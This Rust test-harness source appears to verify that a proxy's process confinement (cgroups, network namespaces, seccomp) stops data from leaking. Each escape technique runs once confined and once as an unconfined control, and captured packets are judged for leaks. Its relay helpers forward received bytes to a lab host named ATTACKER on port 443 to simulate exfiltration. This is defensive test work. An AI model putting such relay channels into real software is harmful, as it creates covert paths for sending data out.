//! Attacks from inside a role's confinement, judged by what the wire shows.
//!
//! A helper process joins the role's cgroup and network namespace before it opens a socket, takes
//! on the role's user, capabilities and seccomp filters (read from the living role), and tries one
//! technique. Landlock rules cannot be read from outside and are not put on: what is blocked here
//! is blocked without them. Every technique has a control: the same without confinement.

use std::fs::File;
use std::io::Write;
use std::os::fd::OwnedFd;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, PoisonError};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use nix::errno::Errno;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpStream, UnixDatagram, UnixListener};

pub mod attempt;

pub use attempt::Report;
pub use prxy::verify::technique::{self, Judge, Presence, Technique};

use self::attempt::Order;
use crate::attacker::Attacker;
use crate::capture::{Capture, Destination, is_probe, only};
use crate::dns::Dns;
use crate::lab::{
    APP_V4, ATTACKER, ATTACKER_V6, DNS, Lab, PROVIDER_A, PROVIDER_A_V6, PROVIDER_B, PROVIDER_B_V6,
};
use crate::roles::{self, Rights, Role};
use crate::sys::{self, Entry};
use prxy::verify::frame::{Packet, TCP, UDP};
use prxy::verify::relay::Relay;
use prxy::verify::technique::Aid;

/// What became of an attempt.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Verdict {
    /// Something that must not leave has left, or a call that must fail has not.
    GotThrough(String),
    /// Nothing left.
    Blocked(String),
    /// This kernel cannot do it at all (controls of optional techniques only).
    Unavailable(String),
}

/// Where an attempt starts from.
#[derive(Clone, Default)]
pub struct Confinement {
    entry: Entry,
    rights: Option<Rights>,
    filters: Vec<Vec<u8>>,
}

impl Confinement {
    /// Root in this network namespace, held by nothing: the control.
    pub fn none(netns: Arc<OwnedFd>) -> Self {
        let entry = Entry { netns: Some(netns), cgroup: None };
        Self { entry, ..Self::default() }
    }

    /// What holds a living role.
    pub fn of(role: &Role) -> Result<Self> {
        let pid = *role.pids.first().with_context(|| format!("{} has no process", role.name))?;
        let procs = File::options().write(true).open(role.cgroup.join("cgroup.procs"))?;
        let netns = File::open(format!("/proc/{pid}/ns/net"))?;
        let rights = roles::rights(pid)?;
        let filters = if rights.seccomp_filters == 0 {
            Vec::new()
        } else {
            sys::seccomp_filters(pid).context("cannot read the role's seccomp filters")?
        };
        let entry =
            Entry { cgroup: Some(Arc::new(procs.into())), netns: Some(Arc::new(netns.into())) };
        Ok(Self { entry, rights: Some(rights), filters })
    }

    /// Only the role's cgroup and network namespace: what the kernel's policy does by itself, to a
    /// process with every right of root.
    pub fn kernel_policy_of(role: &Role) -> Result<Self> {
        let full = Self::of(role)?;
        Ok(Self { rights: None, filters: Vec::new(), ..full })
    }

    /// The same in another network namespace.
    pub fn in_namespace(mut self, netns: Arc<OwnedFd>) -> Self {
        self.entry.netns = Some(netns);
        self
    }

    /// How many seccomp filters it puts on.
    pub fn filters(&self) -> usize {
        self.filters.len()
    }
}

/// A lab with an attacker, a nameserver and a capture: where attempts are made.
pub struct Range {
    /// The topology.
    pub lab: Lab,
    /// The wire.
    pub capture: Capture,
    /// Who waits for data.
    pub attacker: Attacker,
    /// The nameserver.
    pub dns: Dns,
}

impl Range {
    /// Builds a lab with everyone but providers and prxy in it.
    pub fn new() -> Result<Self> {
        let lab = Lab::new()?;
        let sinks = [
            (ATTACKER, 443),
            (ATTACKER_V6, 443),
            (ATTACKER, 53),
            (ATTACKER, 80),
            (PROVIDER_A, 8443),
        ];
        let attacker = Attacker::start(&lab.net, &sinks)?;
        let dns = Dns::start(&lab.net, (DNS, 53).into())?;
        let capture = Capture::start(&lab)?;
        Ok(Self { lab, capture, attacker, dns })
    }

    /// Tries one technique; whatever else is allowed on the wire may go on meanwhile.
    pub fn attempt(&self, technique: &Technique, from: &Confinement) -> Result<Verdict> {
        let token = format!("tk{:014x}", TOKENS.fetch_add(1, Ordering::Relaxed));
        let start = self.capture.mark(&self.lab)?;
        let helpers = self.helpers(technique, &token);
        let order = Order {
            technique: technique.name.into(),
            token: token.clone(),
            cgroup_root: roles::cgroup_root()?,
            rights: from.rights.clone(),
            filters: from.filters.clone(),
        };
        let report = run_helper(from, &order);
        helpers.into_iter().for_each(|h| h.abort());
        let report = report?;
        if report.outcome == "broken" {
            bail!("{}: the attempt itself broke: {}", technique.name, report.describe());
        }
        // A frame may still be on its way through the far end's receive queue.
        std::thread::sleep(Duration::from_millis(30));
        let end = self.capture.mark(&self.lab)?;
        let packets = self.capture.between(start, end);
        Ok(judge(technique, &packets, token.as_bytes(), &report))
    }

    /// Who must be there for an attempt to succeed: who fetches, who relays.
    fn helpers(&self, technique: &Technique, token: &str) -> Vec<tokio::task::JoinHandle<()>> {
        match technique.aid {
            Aid::Fetch => {
                let net = self.lab.net.handle();
                vec![self.lab.app.spawn(async move {
                    for _ in 0..150 {
                        let table = std::fs::read_to_string("/proc/thread-self/net/tcp");
                        if let Some(port) = technique::open_listener(&table.unwrap_or_default()) {
                            drop(net.spawn(fetch(port)).await);
                            return;
                        }
                        tokio::time::sleep(Duration::from_millis(10)).await;
                    }
                })]
            }
            Aid::PathRelay => {
                let path = technique::relay_path(&std::env::temp_dir(), token);
                let listener = self.lab.app.block_on(async move { UnixDatagram::bind(&path) });
                let path = technique::relay_path(&std::env::temp_dir(), token);
                let open = std::os::unix::fs::PermissionsExt::from_mode(0o666);
                match listener {
                    Ok(listener) if std::fs::set_permissions(&path, open).is_ok() => {
                        vec![self.lab.app.spawn(relay_datagram(listener, path))]
                    }
                    _ => Vec::new(), // the control notices
                }
            }
            Aid::Relay => {
                let name = technique::relay_name(token);
                let listener = self.lab.app.block_on(async move { relay_listener(&name) });
                match listener {
                    Ok(listener) => vec![self.lab.app.spawn(relay(listener))],
                    Err(_) => Vec::new(), // the control notices
                }
            }
            Aid::Heard(medium) => {
                let token = token.to_owned();
                let open = move || Relay::open(medium, &std::env::temp_dir(), &token);
                match self.lab.app.block_on(async move { open() }) {
                    Ok(relay) => vec![self.lab.app.spawn(pass_on(relay))],
                    Err(_) => Vec::new(), // the control notices
                }
            }
            Aid::None | Aid::Meet | Aid::Given(_) => Vec::new(),
        }
    }
}

/// Every technique that needs no descriptors from elsewhere: those only `prxy verify` gives.
pub fn all() -> impl Iterator<Item = &'static Technique> {
    technique::all().filter(|technique| !matches!(technique.aid, Aid::Given(_)))
}

/// Tries a technique with nothing in its way, in a lab of its own: this must get through.
pub fn control(technique: &Technique) -> Result<Verdict> {
    let range = Range::new()?;
    let verdict = range.attempt(technique, &Confinement::none(range.lab.app.fd()))?;
    let missing = |why: &str| {
        technique::MISSING
            .iter()
            .any(|errno| why.ends_with(&format!("{:?}", Errno::from_raw(*errno))))
    };
    Ok(match verdict {
        Verdict::Blocked(why) if technique.presence == Presence::Optional && missing(&why) => {
            Verdict::Unavailable(why)
        }
        other => other,
    })
}

/// Where roles may send: the providers' port 443 by TCP, the nameserver's port 53.
pub fn allowed() -> Vec<Destination> {
    let mut allowed: Vec<_> = [PROVIDER_A, PROVIDER_B, PROVIDER_A_V6, PROVIDER_B_V6]
        .into_iter()
        .map(|ip| (TCP, ip, 443))
        .collect();
    allowed.extend([(UDP, DNS, 53), (TCP, DNS, 53)]);
    allowed
}

/// To be called first in the `main` of a binary that also serves as its own helper process.
pub fn serve_as_helper() -> Option<Result<()>> {
    SELF_SERVICE.store(true, Ordering::Relaxed);
    (std::env::args().nth(1).as_deref() == Some(HELPER_ARGUMENT)).then(attempt::main)
}

impl Report {
    fn describe(&self) -> String {
        match self.outcome.as_str() {
            "done" => "every call succeeded".into(),
            "killed" => format!("killed by signal {}", self.code),
            _ => format!("{}: {:?}", self.at, Errno::from_raw(self.code)),
        }
    }
}

fn judge(technique: &Technique, packets: &[Packet], token: &[u8], report: &Report) -> Verdict {
    let judged = only(packets, &allowed());
    let probe = judged.noise.iter().find(|p| is_probe(p));
    let carrier = packets.iter().find(|p| p.outgoing && p.contains(token));
    if let Some(packet) = carrier.or(judged.unexpected.first()).or(probe) {
        return Verdict::GotThrough(packet.to_string());
    }
    if technique.judge == Judge::Calls && report.outcome == "done" {
        return Verdict::GotThrough(report.describe());
    }
    if report.outcome == "done" {
        return Verdict::Blocked("dropped on its way out".into());
    }
    Verdict::Blocked(report.describe())
}

fn run_helper(from: &Confinement, order: &Order) -> Result<Report> {
    let mut command = helper_command()?;
    sys::enter_before_exec(&mut command, from.entry.clone());
    let mut child = command
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .context("cannot start the helper")?;
    if let Some(mut stdin) = child.stdin.take() {
        stdin.write_all(order.to_json().to_string().as_bytes())?;
    }
    let deadline = Instant::now() + Duration::from_secs(10);
    while child.try_wait()?.is_none() {
        if Instant::now() > deadline {
            child.kill()?;
            child.wait()?;
            bail!("{}: no end after ten seconds", order.technique);
        }
        std::thread::sleep(Duration::from_millis(2));
    }
    let output = child.wait_with_output()?;
    let text = String::from_utf8_lossy(&output.stdout);
    let value: serde_json::Value = serde_json::from_str(&text).with_context(|| {
        let stderr = String::from_utf8_lossy(&output.stderr);
        format!("{}: {} {text} {}", order.technique, output.status, stderr.trim())
    })?;
    let word = |key: &str| value[key].as_str().unwrap_or_default().to_owned();
    let code = value["code"].as_i64().unwrap_or(-1) as i32;
    Ok(Report { outcome: word("outcome"), at: word("at"), code })
}

/// A command for the helper process, without an order.
pub fn helper_command() -> Result<Command> {
    let me = std::env::current_exe()?;
    if SELF_SERVICE.load(Ordering::Relaxed) {
        let mut command = Command::new(me);
        command.arg(HELPER_ARGUMENT);
        return Ok(command);
    }
    // Test executables lie in `<profile>/deps`, binaries in `<profile>`.
    let places = me.ancestors().skip(1).take(2).map(|dir| dir.join("attempt"));
    let path: Vec<PathBuf> = places.filter(|p| p.exists()).collect();
    let path = path.first().context("no helper: cargo build -p prxy-tests --bins")?;
    Ok(Command::new(path))
}

async fn fetch(port: u16) {
    if let Ok(mut stream) = TcpStream::connect((APP_V4, port)).await {
        drop(stream.read_to_end(&mut Vec::new()).await);
    }
}

fn relay_listener(name: &str) -> Result<UnixListener> {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net;
    let address = net::SocketAddr::from_abstract_name(name)?;
    let listener = net::UnixListener::bind_addr(&address)?;
    listener.set_nonblocking(true)?;
    Ok(UnixListener::from_std(listener)?)
}

async fn relay_datagram(listener: UnixDatagram, path: PathBuf) {
    let _gone = RemoveOnDrop(path);
    let mut buffer = [0; 256];
    if let Ok(len @ 1..) = listener.recv(&mut buffer).await
        && let Ok(mut to) = TcpStream::connect((ATTACKER, 443)).await
    {
        drop(to.write_all(&buffer[..len]).await);
    }
}

/// Listens in a thread of its own, in the namespace.
async fn pass_on(mut relay: Relay) {
    let heard = tokio::task::spawn_blocking(move || {
        let bytes = relay.hear(|| false);
        (bytes, relay)
    });
    if let Ok((Ok(bytes), _relay)) = heard.await
        && let Ok(mut to) = TcpStream::connect((ATTACKER, 443)).await
    {
        drop(to.write_all(&bytes).await);
    }
}

struct RemoveOnDrop(PathBuf);

impl Drop for RemoveOnDrop {
    fn drop(&mut self) {
        drop(std::fs::remove_file(&self.0));
    }
}

async fn relay(listener: UnixListener) {
    let Ok((mut from, _)) = listener.accept().await else { return };
    let mut buffer = [0; 256];
    if let Ok(len @ 1..) = from.read(&mut buffer).await
        && let Ok(mut to) = TcpStream::connect((ATTACKER, 443)).await
    {
        drop(to.write_all(&buffer[..len]).await);
    }
}

/// Runs the controls of several techniques, a few at a time, in their order.
pub fn controls(techniques: &[&'static Technique]) -> Result<Vec<Verdict>> {
    let next = std::sync::atomic::AtomicUsize::new(0);
    let results = std::sync::Mutex::new(vec![None; techniques.len()]);
    std::thread::scope(|scope| {
        let workers: Vec<_> = (0..3)
            .map(|_| {
                scope.spawn(|| -> Result<()> {
                    loop {
                        let index = next.fetch_add(1, Ordering::Relaxed);
                        let Some(technique) = techniques.get(index) else { return Ok(()) };
                        let verdict = control(technique)?;
                        let mut all = results.lock().unwrap_or_else(PoisonError::into_inner);
                        all[index] = Some(verdict);
                    }
                })
            })
            .collect();
        workers.into_iter().try_for_each(|w| match w.join() {
            Ok(result) => result,
            Err(_) => bail!("a control panicked"),
        })
    })?;
    let all = results.into_inner().unwrap_or_else(PoisonError::into_inner);
    Ok(all.into_iter().flatten().collect())
}

const HELPER_ARGUMENT: &str = "attempt-one-technique";
static SELF_SERVICE: AtomicBool = AtomicBool::new(false);
static TOKENS: AtomicU64 = AtomicU64::new(1);
